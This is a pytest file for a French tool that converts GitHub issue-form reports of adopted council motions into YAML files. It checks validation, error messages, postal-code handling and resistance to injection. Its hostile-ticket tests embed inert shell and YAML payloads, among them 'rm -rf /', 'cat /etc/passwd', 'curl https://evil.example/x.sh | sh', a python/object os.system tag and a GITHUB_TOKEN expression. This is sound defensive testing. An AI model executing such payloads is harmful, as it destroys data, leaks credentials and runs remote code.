"""The issue form « Signaler une motion adoptée » and `petition from-issue` (hazards.md 13): literal
GitHub event files under tests/data/issues/, a correct one, a missing field, a wrong motion, and
hostile ones; each gives a correct motion file or a French error, never an injected key."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import yaml
from click.testing import Result
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import CAMPAIGN, CAMPAIGN_2022, ROOT, RepoBuilder
from petition.core.schemas import schema
from petition.core.yamlstrict import load_bytes
from petition.exchange.writer import dump_motion
from petition.intake.fromissue import Intake, comment_markdown
from petition.intake.issueform import (
    BY_KEY,
    CONSENT,
    FIELDS,
    FORM_FILE,
    IMPORT_LABEL,
    FormProblem,
    build_motion,
    form_url,
    parse_body,
)
from petition.text.mdtext import after

DATA = Path(__file__).parent / "data" / "issues"
LIEVIN = f"motions/{CAMPAIGN}/commune-62510-lievin-2023-10-12.yml"
EXPECTED = f"""\
# yaml-language-server: $schema=../../schema/motion.schema.json
campagne: {CAMPAIGN}
collectivite:
  type: commune
  code: "62510"
  nom: Liévin
instance: Conseil municipal
nature: motion
objet: Motion du collectif pour les bibliothèques de proximité
seance:
  date: "2023-10-12"
presences:
  effectif: 35
  presents: 27
  pouvoirs: 5
vote:
  resultat: adoptee
  unanimite: true
  pour: 31
  contre: 0
  abstentions: 1
texte: |-
  Le Conseil municipal demande solennellement que le gouvernement :

  - consolide le réseau des bibliothèques ;
  - engage la mise en réseau des médiathèques.
sources:
- url: https://www.example.fr/deliberations/2023-10-12-motion-bibliotheques.pdf
notes: 'Motion signalée par le formulaire du ticket #12.'
"""
# Unanimity with one abstention: counts only a document gives (all 32 votants for would be refused
# as inferred from « à l'unanimité »).
VOTE = {"resultat": "adoptee", "unanimite": True, "pour": 31, "contre": 0, "abstentions": 1}
TAIL = ("Pour corriger : en haut du ticket, cliquez sur « ··· » puis sur « Edit » (modifier). "
        "Corrigez les rubriques citées, puis enregistrez. Un coordinateur relancera ensuite "
        "l'ajout.\n\nUne question ? Répondez simplement ici : un coordinateur vous lira.\n")


def from_issue(repo: RepoBuilder, event: str | Path, *args: str) -> Result:
    path = event if isinstance(event, Path) else DATA / f"{event}.json"
    return repo.run("from-issue", str(path), *args)


def data_of(text: str) -> dict[str, Any]:
    loaded: dict[str, Any] = load_bytes(text.encode("utf-8")).data
    return loaded


def assert_no_injected_key(data: dict[str, Any]) -> None:
    """Only the keys the form fills, each with the type the schema expects."""
    assert set(data) <= set(schema("motion")["properties"])
    assert set(data["collectivite"]) == {"type", "code", "nom"}
    assert data["vote"] == VOTE
    assert data["campagne"] == CAMPAIGN
    assert "votes_pour" not in data


# --- a correct ticket ----------------------------------------------------------------------------
def test_valid_issue_gives_exact_file(sample_repo: RepoBuilder) -> None:
    result = from_issue(sample_repo, "valide")
    assert (result.exit_code, result.stdout, result.stderr) == (0, EXPECTED, "")
    assert not (sample_repo.root / LIEVIN).exists()  # without --write, nothing is written


def test_write_then_never_overwrite(sample_repo: RepoBuilder, tmp_path: Path) -> None:
    body = tmp_path / "pr.md"
    result = from_issue(sample_repo, "valide", "--write", "--pr-body-file", str(body))
    assert (result.exit_code, result.stdout) == (0, LIEVIN + "\n")
    assert (sample_repo.root / LIEVIN).read_text("utf-8") == EXPECTED
    assert sample_repo.run("validate").exit_code == 0
    assert body.read_text("utf-8") == f"""\
Motion signalée dans le ticket #12, transformée en fichier par `petition from-issue`.

**Vérifiée avant l'ouverture de cette demande** : le fichier a passé toutes les règles de \
`petition validate` (schéma, voix, dates, référentiel officiel, doublons dans tout le dépôt) sans \
erreur. Une demande ouverte par le robot de GitHub Actions ne déclenche pas les vérifications \
automatiques : le robot les lance lui-même sur cette branche et publie leur verdict en commentaire \
ci-dessous.

### ✅ Liévin (commune 62510)

- Séance : 12 octobre 2023
- Campagne : {CAMPAIGN}
- Nature : Motion
- Vote : adoptée à l'unanimité (31 pour, 0 contre, 1 abstention(s))
- Fichier : motions/{CAMPAIGN}/commune-62510-lievin-2023-10-12.yml
- Problèmes : aucun

Closes #12
"""
    comment = tmp_path / "comment.md"
    again = from_issue(sample_repo, "valide", "--write", "--comment-file", str(comment))
    assert again.exit_code == 1
    assert again.stderr == (f"ticket #12:1: Ticket : le fichier « {LIEVIN} » existe déjà : cette "
                            "motion est sans doute déjà dans le dépôt\n")
    assert (sample_repo.root / LIEVIN).read_text("utf-8") == EXPECTED
    assert "existe déjà" in comment.read_text("utf-8")


def test_name_spelling_and_code_spaces_are_normalised(sample_repo: RepoBuilder) -> None:
    result = from_issue(sample_repo, "nom-casse")  # « LIEVIN », code « 62 510 »
    assert result.exit_code == 0
    data = data_of(result.stdout)
    assert data["collectivite"] == {"type": "commune", "code": "62510", "nom": "Liévin"}


# --- tickets with mistakes -----------------------------------------------------------------------
def test_missing_field(sample_repo: RepoBuilder, tmp_path: Path) -> None:
    comment = tmp_path / "comment.md"
    result = from_issue(sample_repo, "champ-manquant", "--write", "--comment-file", str(comment))
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == "ticket #13:21: Date de la séance : champ obligatoire : remplissez-le\n"
    assert comment.read_text("utf-8") == (
        "Merci pour ce signalement !\n\nLa motion n'est pas encore ajoutée : il reste **1 point à "
        "corriger** dans le formulaire.\n\n**À corriger**\n\n- **Date de la séance** : champ "
        "obligatoire : remplissez-le\n\n" + TAIL)
    assert not any("62510" in p.name for p in (sample_repo.root / "motions").rglob("*.yml"))


def test_wrong_motion_lists_every_problem(sample_repo: RepoBuilder) -> None:
    result = from_issue(sample_repo, "mauvaise-motion")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        # Issue 26: « Lens » is a commune's name: the code is at fault, said on its own field.
        "ticket #14:5: Code officiel de la collectivité : le code « 62510 » est celui de « Liévin », "
        "pas de « Lens », dont le code est « 62498 » : écrivez 62498 dans « Code officiel de la "
        "collectivité » (ou, si c'est bien Liévin, écrivez « Liévin » dans « Nom de la "
        "collectivité »)",
        "ticket #14:21: Date de la séance : date « 2027-01-15 » dans le futur (aujourd'hui : "
        "2026-11-22) : vérifiez l'année",
        "ticket #14:45: Pouvoirs (absents représentés) : 30 pouvoirs pour 27 présents : chaque "
        "présent ne peut détenir qu'un pouvoir (CGCT L2121-20)",
        "ticket #14:45: Pouvoirs (absents représentés) : présents + pouvoirs = 57, plus que les 35 "
        "membres en exercice : vérifiez les nombres",
        "ticket #14:53: Voix contre : « trente » n'est pas un nombre entier positif ou nul : "
        "écrivez le nombre en chiffres (37), ou laissez vide s'il n'est pas connu",
    ]


def test_unknown_campaign_checked_against_repository(sample_repo: RepoBuilder) -> None:
    result = from_issue(sample_repo, "campagne-inconnue")
    assert result.exit_code == 1
    assert result.stderr == (
        f"ticket #21:13: Campagne : campagne « autre-2019 » inconnue (campagnes : {CAMPAIGN_2022}, "
        f"{CAMPAIGN}) : corrigez-la ; pour une nouvelle campagne, un coordinateur crée d'abord "
        "motions/autre-2019/campagne.yml\n")


# --- hostile tickets -----------------------------------------------------------------------------
@pytest.mark.parametrize(("event", "message"), [
    ("nom-retour-ligne", "ticket #15:9: Nom de la collectivité : doit tenir sur une seule ligne : "
                         "retirez les retours à la ligne\n"),
    ("nom-cle-imbriquee", "ticket #16:9: Nom de la collectivité : doit tenir sur une seule ligne :"
                          " retirez les retours à la ligne\n"),
    ("rubrique-en-double", "ticket #20:69: Voix pour : rubrique en double (lignes 49 et 69) : "
                           "gardez-en une seule\n"),
])
def test_hostile_ticket_refused(sample_repo: RepoBuilder, tmp_path: Path, event: str,
                                message: str) -> None:
    comment = tmp_path / "comment.md"
    result = from_issue(sample_repo, event, "--write", "--comment-file", str(comment))
    assert (result.exit_code, result.stdout, result.stderr) == (1, "", message)
    assert comment.read_text("utf-8").startswith("Merci pour ce signalement !")
    assert not (sample_repo.root / LIEVIN).exists()


@pytest.mark.parametrize(("event", "key", "value"), [
    ("texte-cle-imbriquee", "texte", f"Texte.\nvote:\n  pour: 999\ncampagne: {CAMPAIGN_2022}\n---\n"
                                     "!!python/object/apply:os.system ['id']\n&a [*a]"),
    ("shell", "objet", "$(rm -rf /) `cat /etc/passwd` ; echo pwned"),
    ("shell", "texte", "```\n$(curl https://evil.example/x.sh | sh)\n```\n`id`"),
])
def test_hostile_text_stays_text(sample_repo: RepoBuilder, event: str, key: str,
                                 value: str) -> None:
    result = from_issue(sample_repo, event, "--write")
    assert result.exit_code == 0, result.stderr
    text = (sample_repo.root / LIEVIN).read_text("utf-8")
    data = data_of(text)
    assert data[key] == value
    assert_no_injected_key(data)


def test_expression_is_never_evaluated(sample_repo: RepoBuilder, tmp_path: Path) -> None:
    comment = tmp_path / "comment.md"
    result = from_issue(sample_repo, "expression", "--comment-file", str(comment))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "ticket #19:5: Code officiel de la collectivité : commune de code "
        "« ${{SECRETS.GITHUB_TOKEN}} » inconnue du référentiel officiel (COG) ; Liévin a le code "
        "« 62510 »")
    text = comment.read_text("utf-8")
    assert "${{" not in text  # shown as text: each character escaped
    assert "&#36;&#123;&#123;SECRETS.GITHUB&#95;TOKEN&#125;&#125;" in text


def test_one_megabyte_body(sample_repo: RepoBuilder, tmp_path: Path) -> None:
    event = json.loads((DATA / "valide.json").read_text("utf-8"))
    event["issue"]["body"] = event["issue"]["body"].replace(
        "### Publication", "A" * 1_048_576 + "\r\nvotes_pour: 999\r\n\r\n### Publication")
    path = tmp_path / "big.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    result = from_issue(sample_repo, path, "--write")
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr.startswith("ticket #12:1: Ticket : ticket trop long (")
    assert not (sample_repo.root / LIEVIN).exists()


@pytest.mark.parametrize(("content", "message"), [
    ("{", "fichier d'événement illisible (JSON invalide"),
    ('{"action": "opened"}', "ce n'est pas un événement « issues » de GitHub"),
    ('{"issue": {"number": "12; rm -rf /", "body": ""}}', "numéro de ticket absent ou invalide"),
    ('{"issue": {"number": 12, "body": ["x"]}}', "corps du ticket invalide"),
    ('{"issue": {"number": 1' + "0" * 5000 + "}}", "fichier d'événement illisible (JSON invalide"),
    ("[" * 100_000, "fichier d'événement illisible (JSON invalide"),
])
def test_not_an_issue_event_is_usage_error(sample_repo: RepoBuilder, tmp_path: Path, content: str,
                                           message: str) -> None:
    path = tmp_path / "event.json"
    path.write_text(content, encoding="utf-8")
    result = from_issue(sample_repo, path)
    assert result.exit_code == 2
    assert result.stderr.startswith(f"Erreur : {path} : {message}")


def test_ticket_not_from_the_form(sample_repo: RepoBuilder, tmp_path: Path) -> None:
    path = tmp_path / "event.json"
    path.write_text('{"issue": {"number": 3, "body": null}}', encoding="utf-8")
    result = from_issue(sample_repo, path)
    assert (result.exit_code, result.stderr) == (1, (
        "ticket #3:1: Ticket : ce ticket ne suit pas le formulaire « Signaler une motion adoptée » "
        "(aucune rubrique reconnue) : ouvrez un nouveau ticket avec ce formulaire\n"))


# --- the parser on its own -----------------------------------------------------------------------
def body_of(**values: str) -> str:
    defaults = {"type": "Commune", "code": "62510", "nom": "Liévin", "campagne": CAMPAIGN,
                "date": "2023-10-12", "nature": "Motion", "objet": "Motion pour la bibliothèque",
                "resultat": "Adoptée", "publication": f"- [X] {CONSENT} sur le site."}
    defaults.update(values)
    return "\n\n".join(f"### {f.label}\n\n{defaults.get(f.key) or '_No response_'}"
                       for f in FIELDS)


def test_no_response_and_unknown_headings() -> None:
    values, problems = parse_body(body_of(texte="Intro\n\n### Titre libre\n\nSuite"))
    assert problems == []
    assert values["instance"] == ("", 21)
    assert values["texte"][0] == "Intro\n\n### Titre libre\n\nSuite"


def test_unchecked_consent_and_bad_choice() -> None:
    values, _ = parse_body(body_of(publication=f"- [ ] {CONSENT}.", type="Canton"))
    _, problems = build_motion(values, 3)
    assert [(p.key, p.error) for p in problems] == [("type", True), ("publication", True)]
    assert problems[0].message.startswith("« Canton » n'est pas un choix possible : choisissez "
                                          "parmi « Commune », « Conseil d'arrondissement (Paris, "
                                          "Lyon, Marseille) », « Intercommunalité (EPCI) »")


def test_huge_count_is_refused_without_int_conversion() -> None:
    values, _ = parse_body(body_of(pour="9" * 5000))
    _, problems = build_motion(values, 3)
    assert [p.key for p in problems] == ["pour"]


@given(st.text(max_size=300), st.text(max_size=300))
def test_any_value_gives_a_file_that_reads_back_or_an_error(name: str, text: str) -> None:
    values, layout = parse_body(body_of(nom=name, texte=text))
    if layout:
        return
    data, problems = build_motion(values, 7)
    if any(p.key in ("nom", "texte") for p in problems):
        return
    loaded = data_of(dump_motion(data))
    assert loaded == data
    assert set(loaded) <= set(schema("motion")["properties"])
    assert loaded["collectivite"]["nom"] == name.strip()


def test_comment_shows_backticks_as_text() -> None:
    result = Intake(5, problems=[FormProblem("objet", 3, "« ```` » ``` `")])
    comment = comment_markdown(result)
    assert "\n- **Objet** : « &#96;&#96;&#96;&#96; » &#96;&#96;&#96; &#96;\n" in comment
    assert "`" not in comment


# --- the form itself -----------------------------------------------------------------------------
def test_form_matches_parser() -> None:
    form = yaml.safe_load((ROOT / ".github/ISSUE_TEMPLATE/signaler-motion.yml").read_text("utf-8"))
    elements = [e for e in form["body"] if e["type"] != "markdown"]
    assert [e["id"] for e in elements] == [f.key for f in FIELDS]
    for element in elements:
        field = BY_KEY[element["id"]]
        assert element["attributes"]["label"] == field.label
        assert element.get("validations", {}).get("required", False) == field.required \
            or element["type"] == "checkboxes"
        if element["type"] == "dropdown":
            options = element["attributes"]["options"]
            assert options == ([c[0] for c in field.choices] if field.choices else options)
    assert form["name"] == "Signaler une motion adoptée"
    assert IMPORT_LABEL not in form.get("labels", [])  # only a maintainer may trigger the import


def test_form_campaigns_are_campaign_ids() -> None:
    """The form's campaigns are the repository's own data (which of them exist is not checked here:
    the suite runs in a repository of any cause); each is a campaign identifier, offered once and
    described."""
    form = yaml.safe_load((ROOT / ".github/ISSUE_TEMPLATE/signaler-motion.yml").read_text("utf-8"))
    campaign = next(e for e in form["body"] if e.get("id") == "campagne")
    options = campaign["attributes"].get("options", [])
    pattern = re.compile(schema("campaign")["properties"]["id"]["pattern"])
    assert len(set(options)) == len(options)
    for option in options:
        assert pattern.fullmatch(option), option
        assert f"{option} : " in campaign["attributes"]["description"], option


# --- links that open the form already filled in -------------------------------------------------
def test_form_url_prefills_fields_by_id() -> None:
    url = form_url("https://github.com/collectif-exemple/motions/", type="epci", code="246200364",
                   nom="CA de Lens - Liévin", campagne=CAMPAIGN, title="Motion : Lens & co")
    assert url == ("https://github.com/collectif-exemple/motions/issues/new?template=signaler-motion.yml"
                   "&type=Intercommunalit%C3%A9%20%28EPCI%29&code=246200364&nom=CA%20de%20Lens%20-"
                   f"%20Li%C3%A9vin&campagne={CAMPAIGN}&title=Motion%20%3A%20Lens%20%26%20co")
    form = yaml.safe_load((ROOT / ".github/ISSUE_TEMPLATE" / FORM_FILE).read_text("utf-8"))
    ids = {item["id"] for item in form["body"] if "id" in item}
    query = parse_qs(urlsplit(url).query)
    assert set(query) - {"template", "title"} <= ids
    dropdown = next(item for item in form["body"] if item.get("id") == "type")
    assert query["type"] == ["Intercommunalité (EPCI)"]
    assert query["type"][0] in dropdown["attributes"]["options"]


def test_form_url_leaves_out_empty_values_and_refuses_unknown_fields() -> None:
    assert form_url("https://github.com/o/r", code="62498", nom="") == (
        "https://github.com/o/r/issues/new?template=signaler-motion.yml&code=62498")
    with pytest.raises(ValueError, match="champ\\(s\\) inconnu\\(s\\) du formulaire : couleur"):
        form_url("https://github.com/o/r", couleur="rouge")


# --- the form's words (issue 15) ----------------------------------------------------------------
def edited_event(tmp_path: Path, *edits: tuple[str, str]) -> Path:
    """valide.json with its body edited (old, new), as a contributor edits a ticket."""
    event = json.loads((DATA / "valide.json").read_text("utf-8"))
    event["issue"]["body"] = event["issue"]["body"].replace("\r\n", "\n")
    for old, new in edits:
        assert old in event["issue"]["body"], old
        event["issue"]["body"] = event["issue"]["body"].replace(old, new, 1)
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event, ensure_ascii=False), "utf-8")
    return path


def body_line(path: Path, fragment: str) -> int:
    body = json.loads(path.read_text("utf-8"))["issue"]["body"]
    return next(n for n, line in enumerate(body.split("\n"), 1) if line.startswith(fragment))


@pytest.mark.parametrize("edits, heading, message", [
    ([("12/10/2023", "30/02/2023")], "### Date de la séance",
     "Date de la séance : « 30/02/2023 » : le 30 février 2023 n'existe pas (février 2023 n'a que 28 "
     "jours) ; vérifiez la date sur le document"),
    ([("https://www.example.fr/deliberations/2023-10-12-motion-bibliotheques.pdf",
       "www.example.fr/motion.pdf")], "### Lien vers le document",
     "Lien vers le document : « www.example.fr/motion.pdf » n'a pas la forme attendue. Adresse "
     "http(s) du document original."),
    ([("\nLiévin\n", "\nLié\tvin\n")], "### Nom de la collectivité",
     "Nom de la collectivité : doit tenir sur une seule ligne : retirez les tabulations"),
    ([("### Voix contre\n\n0", "### Voix contre\n\n3"), ("### Voix pour\n\n31", "### Voix pour\n\n28")],
     "### Voix contre",
     "Voix contre : « Adoptée à l'unanimité » mais 3 voix contre : l'unanimité veut dire aucune "
     "voix contre ; choisissez « Adoptée » ou corrigez « Voix contre »"),
    ([("### Voix pour\n\n31", "### Voix pour\n\n32"), ("### Abstentions\n\n1", "### Abstentions\n\n0")],
     "### Voix pour",
     "Voix pour : « Voix pour » égale le nombre des votants avec « Adoptée à l'unanimité » : ce "
     "nombre semble déduit, or l'unanimité dit seulement qu'aucune voix n'est contre (des "
     "abstentions sont possibles) ; si le document ne donne pas le détail des voix, laissez « Voix "
     "pour », « Voix contre » et « Abstentions » vides"),
])
def test_comments_speak_the_forms_words(sample_repo: RepoBuilder, tmp_path: Path,
                                        edits: list[tuple[str, str]], heading: str,
                                        message: str) -> None:
    event = edited_event(tmp_path, *edits)
    comment = tmp_path / "comment.md"
    result = from_issue(sample_repo, event, "--comment-file", str(comment))
    assert result.exit_code == 1
    assert result.stderr == f"ticket #12:{body_line(event, heading)}: {message}\n"
    text = comment.read_text("utf-8")
    label, said = message.split(" : ", 1)
    assert f"\n- **{label}** : {after(said)}\n" in text
    assert "```" not in text  # no block that scrolls sideways
    for yaml_word in ("seance.date", "sources.0.url", "tabulation dans l'indentation",
                      "petition validate", "unanimite:", "CONTRIBUTING"):
        assert yaml_word not in text


@pytest.mark.parametrize("typed, body_type, code, official, name", [
    ("Ville de Liévin", "Commune", "62510", "Liévin", "commune-62510-lievin-2023-10-12.yml"),
    ("Communauté d'agglomération de Lens-Liévin", "Intercommunalité (EPCI)", "246200364",
     "CA de Lens - Liévin", "epci-246200364-ca-de-lens-lievin-2023-10-12.yml"),
])
def test_usual_long_names_are_accepted_when_the_code_is_given(
        sample_repo: RepoBuilder, tmp_path: Path, typed: str, body_type: str, code: str,
        official: str, name: str) -> None:
    event = edited_event(tmp_path, ("\nLiévin\n", f"\n{typed}\n"), ("\n62510\n", f"\n{code}\n"),
                         ("\nCommune\n", f"\n{body_type}\n"),
                         ("\nConseil municipal\n", "\nConseil\n"))
    body = tmp_path / "pr.md"
    result = from_issue(sample_repo, event, "--write", "--pr-body-file", str(body))
    assert result.exit_code == 0, result.output
    assert result.stdout == f"motions/{CAMPAIGN}/{name}\n"
    assert data_of((sample_repo.root / f"motions/{CAMPAIGN}" / name).read_text())["collectivite"] \
        == {"type": body_type.split()[0].lower().replace("intercommunalité", "epci"), "code": code,
            "nom": official}
    assert result.stderr == (f"ticket #12:1: Nom de la collectivité : avertissement : « {typed} » "
                             f"enregistré sous le nom officiel « {official} » (code {code})\n")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp", "Co"))
               .filter(lambda c: not (0xFDD0 <= ord(c) <= 0xFDEF or ord(c) & 0xFFFE == 0xFFFE)),
               min_size=1))
def test_a_comment_item_shows_any_message_as_itself(text: str) -> None:
    import html
    import re

    import markdown

    expected = re.sub(" +", " ", text).strip()
    page = markdown.markdown(f"- **Objet** : {after(text)}")
    start, end = "<ul>\n<li><strong>Objet</strong> : ", "</li>\n</ul>"
    assert page.startswith(start) and page.endswith(end), page
    shown = page[len(start):len(page) - len(end)]
    assert "<" not in shown and html.unescape(shown).strip() == expected, page


# --- postal codes and French dates (issue 26) ----------------------------------------------------
def test_a_postal_code_for_the_commune_named_is_recorded_under_its_insee_code(
        sample_repo: RepoBuilder, tmp_path: Path) -> None:
    # 62440: Harnes' postal code, and Hermies' INSEE code. It used to be reported as a wrong
    # name (« le code 62440 est celui de Hermies »).
    from petition.core.postcodes import communes_of_postcode
    from petition.core.referential import referential

    [insee] = communes_of_postcode("62440")
    harnes = referential().body("commune", insee)
    assert harnes is not None and harnes.nom == "Harnes"
    event = edited_event(tmp_path, ("\n62510\n", "\n62440\n"), ("\nLiévin\n", "\nHarnes\n"),
                         ("12/10/2023", "12 octobre 2023"))
    comment = tmp_path / "comment.md"
    result = from_issue(sample_repo, event, "--write", "--comment-file", str(comment))
    assert result.exit_code == 0, result.stderr
    rel = f"motions/{CAMPAIGN}/commune-{insee}-harnes-2023-10-12.yml"
    assert result.stdout == rel + "\n"
    data = data_of((sample_repo.root / rel).read_text("utf-8"))
    assert data["collectivite"] == {"type": "commune", "code": insee, "nom": "Harnes"}
    assert data["seance"] == {"date": "2023-10-12"}
    said = (f"« 62440 » est le code postal de Harnes : la motion est enregistrée sous son "
            f"code officiel (INSEE), {insee}")
    assert result.stderr.splitlines()[0] == (f"ticket #12:{body_line(event, '### Code officiel')}: "
                                             f"Code officiel de la collectivité : avertissement : "
                                             f"{said}")
    # The issue is told too (the workflow puts the pull request's link before it).
    text = comment.read_text("utf-8")
    assert text.startswith("**À vérifier (ces points n'empêchent pas l'ajout)**\n\n"
                           f"- **Code officiel de la collectivité** : {after(said)}\n")
    assert text.endswith("\n\nSi quelque chose est à corriger, dites-le simplement ici : un "
                         "coordinateur le fera.\n")
    assert sample_repo.run("validate").exit_code == 0


def test_a_postal_code_shared_by_several_communes_asks_which(sample_repo: RepoBuilder,
                                                              tmp_path: Path) -> None:
    from petition.core.postcodes import communes_of_postcode
    from petition.core.referential import referential

    ref = referential()
    served = [ref.body("commune", c) for c in communes_of_postcode("62000")]
    assert [b.nom for b in served if b] == ["Arras", "Dainville"]
    assert ref.body("commune", "62000") is None  # not an INSEE code
    event = edited_event(tmp_path, ("\n62510\n", "\n62000\n"), ("\nLiévin\n", "\nMa commune\n"))
    result = from_issue(sample_repo, event)
    assert result.exit_code == 1
    listed = ", ".join(f"{b.nom} ({b.code})" for b in served if b)
    assert result.stderr.splitlines() == [
        f"ticket #12:{body_line(event, '### Code officiel')}: Code officiel de la collectivité : "
        f"« 62000 » est "
        f"un code postal, partagé par plusieurs communes : {listed}. Laquelle est la vôtre ? "
        "Écrivez son code officiel (entre parenthèses) dans « Code officiel de la collectivité »"]


def test_a_postal_code_of_one_commune_names_it(sample_repo: RepoBuilder, tmp_path: Path) -> None:
    from petition.core.postcodes import communes_of_postcode

    assert communes_of_postcode("59000") == ("59350",)  # Lille; not an INSEE code
    event = edited_event(tmp_path, ("\n62510\n", "\n59000\n"), ("\nLiévin\n", "\nMairie\n"))
    result = from_issue(sample_repo, event)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"ticket #12:{body_line(event, '### Code officiel')}: Code officiel de la collectivité : "
        f"« 59000 » est "
        "le code postal de Lille, dont le code officiel (INSEE) est 59350 : si c'est votre commune, "
        "écrivez 59350 dans « Code officiel de la collectivité » et « Lille » dans « Nom de la "
        "collectivité »"]


@pytest.mark.parametrize("typed", ["12 octobre 2023", "12/10/2023", "2023-10-12", "jeudi 12 octobre 2023"])
def test_the_form_takes_the_date_as_people_write_it(sample_repo: RepoBuilder, tmp_path: Path,
                                                    typed: str) -> None:
    result = from_issue(sample_repo, edited_event(tmp_path, ("12/10/2023", typed)))
    assert result.exit_code == 0, result.stderr
    assert data_of(result.stdout)["seance"] == {"date": "2023-10-12"}


def test_a_comment_says_errors_and_warnings_both(sample_repo: RepoBuilder, tmp_path: Path) -> None:
    event = edited_event(tmp_path, ("12/10/2023", "31 septembre 2023"),
                         ("https://www.example.fr/deliberations/2023-10-12-motion-bibliotheques.pdf",
                          ""))
    comment = tmp_path / "comment.md"
    assert from_issue(sample_repo, event, "--comment-file", str(comment)).exit_code == 1
    text = comment.read_text("utf-8")
    assert "\n**À corriger**\n\n- **Date de la séance** : « 31 septembre 2023 » : le 31 septembre " \
           "2023 n’existe pas" in text.replace("n'existe", "n’existe")
    assert "\n**À vérifier (ces points n'empêchent pas l'ajout)**\n\n- **Lien vers le document**" \
        in text
    assert "```" not in text
    for jargon in ("URL", "champ ", "YAML", "fichier", "étiquette", "petition"):
        assert jargon not in text, jargon
